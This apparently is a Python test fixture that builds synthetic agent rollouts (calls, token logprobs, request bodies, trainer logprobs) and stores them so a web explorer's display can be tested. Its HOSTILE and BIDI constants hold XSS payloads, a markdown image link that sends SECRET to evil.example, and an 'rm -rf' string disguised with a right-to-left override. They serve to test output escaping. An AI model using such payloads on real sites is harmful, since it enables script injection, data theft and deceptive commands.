"""Rollouts to look at: built through records, stored in a real store.

Every seed is deterministic. `fill` writes all of them; the names are the keys of `IDS`.
"""

from __future__ import annotations

import hashlib
import json
import random
import uuid
from dataclasses import dataclass, field, replace
from typing import Any

import numpy as np

from explorer.capture.fingerprint import message_digest, message_digests, system_digest
from explorer.custody.digest import chain_hash
from explorer.records import (
    NULL_LOGPROB_BITS,
    Body,
    BodyKind,
    Call,
    CallId,
    CallStatus,
    CaptureLevel,
    Certificate,
    Dialect,
    EventKind,
    FailureKind,
    IdArray,
    KeyHash,
    LogprobKind,
    Rollout,
    RolloutEvent,
    RolloutId,
)
from explorer.store.deltas import LogpsKind, TrainerLogps, TrainerPost
from explorer.store.interface import Store
from explorer.trace.checks import null_logprobs
from tests.web.vocabulary import TOKENIZER, encode, entries

START_US = 1_795_000_000_000_000
CERTIFICATE = Certificate(
    certificate_id="c" * 32,
    time_us=START_US - 60_000_000,
    engine_kind="tiny",
    engine_name="tiny",
    engine_version="1.0",
    model="tiny-0.4m",
    fingerprint="9f" * 16,
    capture_level=CaptureLevel.TOKENS,
    logprob_kind=LogprobKind.PROCESSED,
    certifiable=True,
    numbers={"temperature": {"max_abs_error": 1.2e-06, "tokens": 512}, "top_p": 0.0},
)
EMOJI = "a fox 🦊, 漢字 and a family 👩‍💻; naïve"
BIDI = "rm -rf /tmp/safe \u202e# hctap ylppa\u202c\u200b"
HOSTILE = (
    "<img src=x onerror=alert(1)></script><script>alert(1)</script>"
    "[x](javascript:alert(1)) ![x](https://evil.example/p?d=SECRET)"
    '" onmouseover="alert(1)'
)
BIG_ID = "107505301260286111"
BIG_SEED = 9223372036854775807
SENTENCES = (
    "The test fails because the lock is taken twice. Let me look at the call graph first; ",
    "Next I run the suite again and compare: expected 3 rows, "
    "got 2 — off by one at the page edge.\n",
    "pvariance           Population variance of data.\n",
    "    return the value\n",
    "Calculate the standard deviation of sample data:\n",
)
TOOL_OUTPUT = (
    "total 3\n-rw-r--r-- a.py\n\ttests/test_lock.py:12: error: expected 3 rows, got 2\n"
)


@dataclass
class Maker:
    """Builds the calls of one rollout."""

    rollout: Rollout
    seed: int = 1
    calls: list[Call] = field(default_factory=list)
    bodies: list[list[Body]] = field(default_factory=list)
    fulls: dict[CallId, list[int]] = field(default_factory=dict)
    messages: dict[CallId, list[dict[str, Any]]] = field(default_factory=dict)

    def __post_init__(self) -> None:
        self.random = random.Random(self.seed)
        self.numbers = np.random.default_rng(self.seed)

    def call(
        self,
        reply: str,
        *,
        parent: CallId | None = None,
        said: tuple[tuple[str, str], ...] = (),
        tools: int = 3,
        seconds: float = 2.0,
        with_bodies: bool = True,
        **changes: Any,
    ) -> CallId:
        """One committed call: `said` are the new messages before the reply."""
        number = len(self.calls)
        call_id = CallId(
            hashlib.sha256(f"{self.rollout.rollout_id}/{number}".encode()).hexdigest()[:32]
        )
        before = self.fulls.get(parent, []) if parent else []
        text = "".join(f"<|{role}|>\n{words}<|end|>\n" for role, words in said)
        delta = encode(("\n" if parent else "") + text + "<|assistant|>\n")
        completion = encode(reply + "<|end|>")
        logprobs = self.logprobs(len(completion))
        messages = [*(self.messages[parent] if parent else [])]
        messages += [said_message(role, words) for role, words in said]
        previous = next((c for c in self.calls if c.call_id == parent), None)
        start = START_US + number * 3_000_000
        call = Call(
            call_id=call_id,
            rollout_id=self.rollout.rollout_id,
            sequence=number,
            dialect=Dialect.CHAT,
            status=CallStatus.COMMITTED,
            started_us=start,
            ended_us=start + int(seconds * 1e6),
            http_status=200,
            upstream_status=200,
            engine_ms=seconds * 900,
            finish_reason="stop" if "tool:" not in reply else "tool_calls",
            capture_level=CaptureLevel.TOKENS,
            model_requested="tiny-0.4m",
            model_served="tiny-0.4m",
            weight_version_start=7,
            weight_version_end=7,
            requested_sampling={"temperature": 0.7, "top_p": 0.95, "seed": BIG_SEED},
            submitted_sampling={"temperature": 1.0, "top_p": 1.0, "seed": BIG_SEED},
            n_tools=tools,
            n_messages=len(messages),
            message_digests=message_digests(messages),
            system_digest=system_digest(messages),
            reply_digest=message_digest(answer_message(reply)),
            stored_parent_id=parent,
            prefix_len=len(before),
            prompt_len=len(before) + len(delta),
            completion_len=len(completion),
            prompt_delta=np.array(delta, dtype=np.int32),
            completion=np.array(completion, dtype=np.int32),
            logprobs=logprobs,
            usage_prompt=len(before) + len(delta),
            usage_completion=len(completion),
            preview=reply[:200],
        )
        whole = np.array([*delta, *completion], dtype=np.int32)
        link = previous.chain_hash if previous is not None else None
        call = replace(call, chain_hash=chain_hash(link, whole))
        call = replace(call, **changes)
        self.calls.append(call)
        self.fulls[call_id] = [*before, *delta, *completion]
        self.messages[call_id] = [*messages, answer_message(reply)]
        prompt = [*before, *delta]
        self.bodies.append(self._bodies(call, messages, reply, prompt) if with_bodies else [])
        return call_id

    def logprobs(self, count: int) -> np.ndarray[Any, np.dtype[np.float32]]:
        """Mostly confident, some doubts, few surprises."""
        kind = self.numbers.random(count)
        sure = -self.numbers.exponential(0.006, count)
        doubt = -self.numbers.exponential(0.7, count)
        wild = -4 - self.numbers.exponential(2.0, count)
        values = np.where(kind < 0.58, sure, np.where(kind < 0.99, doubt, wild))
        return values.astype(np.float32)

    def _bodies(
        self, call: Call, messages: list[dict[str, Any]], reply: str, prompt: list[int]
    ) -> list[Body]:
        request = {
            "model": "tiny-0.4m",
            "messages": messages,
            "temperature": 0.7,
            "seed": BIG_SEED,
        }
        answer = {
            "id": f"chatcmpl-{call.call_id}",
            "choices": [
                {
                    "index": 0,
                    "finish_reason": call.finish_reason,
                    "message": answer_message(reply),
                    **_sampled(call),
                }
            ],
            "prompt_token_ids": prompt,
        }
        pairs = (
            (BodyKind.REQUEST, request),
            (BodyKind.SUBMITTED, {**request, "temperature": 1.0, "logprobs": True}),
            (BodyKind.REPLY, answer),
        )
        return [
            Body(
                call_id=call.call_id,
                rollout_id=call.rollout_id,
                kind=kind,
                data=json.dumps(value, ensure_ascii=False).encode(errors="surrogatepass"),
                headers=(("content-type", "application/json"),),
            )
            for kind, value in pairs
        ]

    def rebody(self, number: int, messages: list[dict[str, Any]]) -> None:
        """Say that a call was asked with other messages than its tokens were made of."""
        call = replace(
            self.calls[number],
            message_digests=message_digests(messages),
            system_digest=system_digest(messages),
        )
        self.calls[number] = call
        prompt = self.fulls[call.call_id][: call.prompt_len]
        self.bodies[number] = self._bodies(call, messages, call.preview, prompt)

    def ids(self, call_id: CallId) -> IdArray:
        """Prompt and sampled ids of a call."""
        return np.array(self.fulls[call_id], dtype=np.int32)


def answer_message(reply: str) -> dict[str, Any]:
    """What the engine says, which the harness sends back as it came."""
    function = {"name": "lookup", "arguments": f'{{"id": {BIG_ID}}}'}
    return {
        "role": "assistant",
        "content": reply,
        "reasoning_content": "I should look first.",
        "tool_calls": [{"id": "call_1", "type": "function", "function": function}],
    }


def _sampled(call: Call) -> dict[str, Any]:
    """Ids and logprobs of a reply as an engine writes them: what the row was read from."""
    if call.completion is None:
        return {}
    ids = call.completion.tolist()
    found: dict[str, Any] = {"token_ids": ids}
    if call.logprobs is not None:
        nulls = null_logprobs(call.logprobs)
        found["logprobs"] = {
            "content": [
                {"token": f"token_id:{each}", "logprob": None if null else float(value)}
                for each, value, null in zip(ids, call.logprobs, nulls, strict=True)
            ]
        }
    return found


def said_message(role: str, words: str) -> dict[str, Any]:
    """A new message; a tool result names the call it answers."""
    message = {"role": role, "content": words}
    return message | {"tool_call_id": "call_1"} if role == "tool" else message


def prose(maker: Maker, sentences: int) -> str:
    """Deterministic text of some sentences."""
    return "".join(maker.random.choice(SENTENCES) for _ in range(sentences))


def maker(
    name: str, *, run: str = "grpo-tiny #412", task: str = "fix-lock", **more: Any
) -> Maker:
    """A rollout without calls yet."""
    digest = hashlib.sha256(name.encode()).digest()
    rollout_id = RolloutId(str(uuid.UUID(bytes=digest[:16])))
    rollout = Rollout(
        rollout_id=rollout_id,
        created_us=START_US + sum(map(ord, name)) * 1_000_000,
        key_hash=KeyHash(hashlib.sha256(b"key" + name.encode()).hexdigest()),
        run=run,
        task=task,
        harness=more.pop("harness", "terminus-2"),
        harness_version="2.1",
        engine_kind="tiny",
        engine_name="tiny",
        engine_version="1.0",
        model="tiny-0.4m",
        tokenizer_id=TOKENIZER,
        certificate_id=CERTIFICATE.certificate_id,
        app_version="0.1.0",
        metadata={"split": "train"},
        **more,
    )
    return Maker(rollout, seed=sum(map(ord, name)))


FIRST = (
    ("system", "You are a careful agent. Use the tools when needed.\n"),
    ("user", "Please repair the test file and make the tests pass.\n"),
)


def small() -> Maker:
    """Three turns, all trained, one with emoji and CJK."""
    made = maker("small", attempt=1, group="g1")
    one = made.call(
        f"<think>\n{prose(made, 4)}</think>\n{EMOJI}\n```python\n{prose(made, 6)}", said=FIRST
    )
    two = made.call(prose(made, 7), parent=one, said=(("tool", TOOL_OUTPUT),), seconds=4.2)
    made.call(prose(made, 3), parent=two, said=(("tool", TOOL_OUTPUT),), seconds=0.9)
    return made


def forked() -> Maker:
    """A discarded answer, an auxiliary call, a failed one, a prefix break."""
    made = maker("forked", attempt=2, group="g1")
    made.call(
        "lock test repair",
        said=(("user", "Make a title of three words.\n"),),
        tools=0,
        seconds=0.3,
    )
    one = made.call(f"<think>\n{prose(made, 5)}</think>\n{prose(made, 3)}", said=FIRST)
    two = made.call(prose(made, 6), parent=one, said=(("tool", TOOL_OUTPUT),))
    said = (("tool", TOOL_OUTPUT + EMOJI + "\n"),)
    made.call(prose(made, 3), parent=two, said=said, seconds=1.1)
    three = made.call(prose(made, 8), parent=two, said=said, seconds=3.3)
    made.call(
        "",
        parent=three,
        said=(("tool", TOOL_OUTPUT),),
        status=CallStatus.FAILED,
        failure_kind=FailureKind.UPSTREAM_STATUS,
        failure_detail="the engine answered 500",
        http_status=502,
        finish_reason=None,
        completion=None,
        completion_len=None,
        logprobs=None,
        chain_hash=None,
        usage_completion=None,
    )
    four = made.call(prose(made, 9), parent=three, said=(("tool", TOOL_OUTPUT * 30),))
    made.call(prose(made, 2), parent=four, said=(("user", "Done?\n"),))
    other = ("user", "Please repair the test file and delete the rest.\n")
    broken = (FIRST[0], other, *said)
    made.call(prose(made, 4), said=broken, seconds=1.5)
    return made


def hostile() -> Maker:
    """Text that would like to be markup."""
    made = maker(
        "hostile", task="<script>alert(1)</script>", harness='"><img src=x onerror=alert(1)>'
    )
    one = made.call(HOSTILE + BIDI, said=(("user", HOSTILE + "\x00\ufeff"),))
    made.call(HOSTILE, parent=one, said=(("tool", HOSTILE + BIDI + EMOJI),))
    return made


def refused() -> Maker:
    """A null logprob, so that it does not train; a text-level call beside it."""
    made = maker("refused", attempt=3, group="g1")
    one = made.call(prose(made, 4), said=FIRST)
    call = made.calls[0]
    assert call.logprobs is not None
    values = call.logprobs.copy()
    values.view(np.uint32)[3] = NULL_LOGPROB_BITS
    made.calls[0] = replace(call, logprobs=values)
    made.rebody(0, made.messages[call.call_id][:-1])
    made.call(prose(made, 4), parent=one, said=(("tool", TOOL_OUTPUT),))
    return made


def ranked() -> Maker:
    """Alternatives recorded, so that ranks exist."""
    made = maker("ranked", task="other-task", attempt=1)
    one = made.call(prose(made, 5), said=FIRST)
    for place, call in enumerate(made.calls):
        assert call.completion is not None
        assert call.logprobs is not None
        rows = []
        for token, value in zip(call.completion.tolist(), call.logprobs.tolist(), strict=True):
            others = [
                [token, "", value],
                [65, "A", value - 0.5],
                [None, "🦊", -0.01 + value * 0.5],
            ]
            rows.append(sorted(others, key=lambda item: -item[2]))
        made.calls[place] = replace(call, top_logprobs=json.dumps(rows).encode())
    made.call(prose(made, 2), parent=one, said=(("tool", TOOL_OUTPUT),))
    return made


def still_open() -> Maker:
    """Not closed yet."""
    made = maker("open", run="eval-night", task="count-files")
    made.call(prose(made, 3), said=FIRST)
    return made


def large(tokens: int = 100_000, name: str = "large") -> Maker:
    """About so many tokens in 68 turns, under half of them sampled."""
    made = maker(name, run="long-context", task="large")
    parent: CallId | None = None
    turns = 68
    sentence = len(encode("".join(SENTENCES))) / len(SENTENCES)
    per_turn = tokens / turns
    tool = "".join(SENTENCES) + EMOJI + "\n" + TOOL_OUTPUT
    repeat = max(1, round(per_turn * 0.56 / len(encode(tool))))
    for _ in range(turns):
        said = (("tool", tool * repeat),) if parent else (*FIRST, ("user", tool * repeat))
        reply = f"<think>\n{prose(made, round(per_turn * 0.42 / sentence))}</think>\n{EMOJI}\n"
        parent = made.call(reply, parent=parent, said=said, with_bodies=False)
    return made


def long_conversation(turns: int = 280) -> Maker:
    """size-03: 280 turns whose requests repeat everything before them."""
    made = maker("long", run="long-context", task="conversation")
    parent: CallId | None = None
    for _ in range(turns):
        said = (("tool", "\n".join(["a line of the tool's output"] * 50) + "\n"),)
        parent = made.call(prose(made, 4), parent=parent, said=said if parent else FIRST)
    return made


def very_long() -> Maker:
    """More tokens than are sent at once, in prompts longer than are shown."""
    made = maker("very-long")
    parent: CallId | None = None
    for _ in range(3):
        said = (("tool", TOOL_OUTPUT * 1_100),)
        parent = made.call("so it goes\n", parent=parent, said=said, with_bodies=False)
    return made


SEEDS = {
    "small": (small, 1.0, True),
    "forked": (forked, 0.0, None),
    "refused": (refused, 0.0, False),
    "hostile": (hostile, 0.5, None),
    "ranked": (ranked, 1.0, True),
    "open": (still_open, None, None),
}


async def write(
    store: Store, made: Maker, reward: float | None, ok: bool | None, *, close: bool
) -> None:
    """Store one rollout with its calls and events."""
    await store.add_rollout(made.rollout)
    for call, bodies in zip(made.calls, made.bodies, strict=True):
        await store.commit_call(call, bodies)
    end = made.rollout.created_us + 400_000_000
    rollout_id = made.rollout.rollout_id
    if reward is not None:
        await store.add_event(
            RolloutEvent(rollout_id, -1, end, EventKind.REWARD, reward=reward, ok=ok)
        )
    if close:
        await store.add_event(RolloutEvent(rollout_id, -1, end + 1, EventKind.CLOSED))


# Rollouts that a trainer told its logprobs of.
TRAINED = ("forked", "ranked")


async def tell(store: Store, made: Maker) -> None:
    """A trainer's logprobs: noise, a few tokens far off, a null; and what the engine said when
    it was asked again."""
    numbers = np.random.default_rng(8)
    sampled = [call for call in made.calls if call.logprobs is not None]
    for kind, version, noise in (
        (LogpsKind.RESCORED, 7, 0.002),
        (LogpsKind.TRAINER, 8, 0.06),
        (LogpsKind.TRAINER, 7, 0.02),
    ):
        rows = []
        for call in sampled:
            assert call.logprobs is not None
            moved = numbers.normal(0, noise, call.logprobs.size)
            if kind is LogpsKind.TRAINER and moved.size > 40:
                moved[[5, 17, 30]] += (-2.5, 0.9, 0.35)
            logps = np.minimum(call.logprobs + moved, 0).astype(np.float32)
            if kind is LogpsKind.TRAINER and moved.size > 40:
                logps.view(np.uint32)[9] = NULL_LOGPROB_BITS
            rows.append(
                TrainerLogps(
                    made.rollout.rollout_id,
                    call.call_id,
                    f"tl_{kind.value}_{version}",
                    START_US + 3_600_000_000 - version,
                    kind,
                    "trl" if kind is LogpsKind.TRAINER else "tiny 1.0",
                    version,
                    logps,
                )
            )
        await store.add_trainer_logps(TrainerPost(made.rollout.rollout_id, tuple(rows)))


async def fill(store: Store) -> dict[str, Maker]:
    """Write the certificate, the vocabulary and every seed."""
    await store.add_certificate(CERTIFICATE)
    await store.add_vocabulary(entries())
    written = {}
    for name, (make, reward, ok) in SEEDS.items():
        made = make()
        await write(store, made, reward, ok, close=name != "open")
        if name in TRAINED:
            await tell(store, made)
        written[name] = made
    return written
